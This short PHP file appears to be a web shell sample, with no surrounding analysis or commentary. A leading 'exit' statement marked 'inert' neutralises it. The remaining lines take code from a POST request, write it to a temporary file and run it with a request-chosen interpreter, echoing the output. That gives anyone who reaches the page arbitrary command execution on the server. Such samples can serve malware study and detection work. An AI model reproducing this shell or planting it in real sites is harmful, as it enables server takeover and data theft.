<?php exit; /* inert */ 
$n = '/tmp/' . uniqid() . ($_POST['l'] == 'pl' ? '.pl' : '.py');
file_put_contents($n, $_POST['src']);
echo `{$_POST['bin']} $n 2>&1 &`;
